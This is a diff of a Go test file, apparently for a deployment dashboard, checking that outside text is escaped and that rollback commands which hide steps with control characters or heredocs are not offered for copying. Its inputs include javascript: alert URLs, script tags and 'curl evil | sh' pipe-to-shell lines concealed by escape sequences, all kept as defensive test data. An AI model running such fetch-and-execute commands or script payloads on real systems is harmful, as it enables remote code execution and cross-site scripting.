@@ -92,7 +92,7 @@ func TestTextFromOutsideIsEscaped(t *testing.T) {
 		CompareURL: "JaVaScRiPt://x/%0aalert(1)", Added: []string{hostile}})
 	l.RecordPipelineRun(event.PipelineRun{ID: "1", Pipeline: hostile, Task: hostile, Stage: event.StageBuild, Result: "success", Revision: revision(5), URL: "javascript:alert(4)", StartedAt: p.at(time.Hour)})
 	d, _ := l.RecordDeployment(event.Deployment{Service: hostile, Environment: hostile, Version: hostile, PreviousVersion: hostile, Revision: revision(5), StartedAt: p.at(time.Minute), FirstSeenAt: p.at(time.Minute),
-		URL: "javascript:alert(5)", RollbackCommand: "echo safe\x1b[2K\ncurl evil \u202e| sh" + hostile, Sources: []event.Source{{Name: hostile, ID: hostile, At: p.at(time.Minute)}}})
+		URL: "javascript:alert(5)", RollbackCommand: "echo safe\ncurl known | sh -s '" + hostile + "'", Sources: []event.Source{{Name: hostile, ID: hostile, At: p.at(time.Minute)}}})
 	v := p.badVerdict(d)
 	v.Detail, v.ControlDetail = hostile, hostile
 	for i := range v.Evidence {
@@ -125,7 +125,22 @@ func TestTextFromOutsideIsEscaped(t *testing.T) {
 	}
 	html := page200(t, h, "/deployments/"+d.ID)
 	assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;")
-	assert.Contains(t, html, `data-copy="echo safe[2K &amp;&amp; curl evil | sh&lt;script`, "a command is one line, without control or reordering characters")
+	assert.Contains(t, html, `data-copy="echo safe &amp;&amp; curl known | sh -s &#39;&lt;script`, "a command is one line")
+}
+
+// A command that would not show as it runs is not offered, nor is a part of it.
+func TestCommandThatHidesIsNotOffered(t *testing.T) {
+	for _, command := range []string{"echo safe\x1b[2K\ncurl evil | sh", "echo safe\ncurl evil \u202e| sh", "echo safe\rcurl evil | sh", "cat <<EOF\ncurl evil | sh\nEOF"} {
+		l := ledger.New(ledger.Limits{})
+		p := afternoon{noon}
+		d, _ := l.RecordDeployment(event.Deployment{Service: "checkout", Version: "1.42.0", PreviousVersion: "1.41.3", StartedAt: p.at(time.Minute), FirstSeenAt: p.at(time.Minute), RollbackCommand: command})
+		require.Equal(t, command, d.RollbackCommand)
+		l.RecordVerdict(p.badVerdict(d))
+		html := page200(t, handler(t, l), "/deployments/"+d.ID)
+		assert.NotContains(t, html, "curl evil")
+		assert.NotContains(t, html, `data-copy="Deploy `, "words are not for pasting")
+		assert.Contains(t, html, "Roll back")
+	}
 }
 
 func TestFiguresThatAreNone(t *testing.T) {
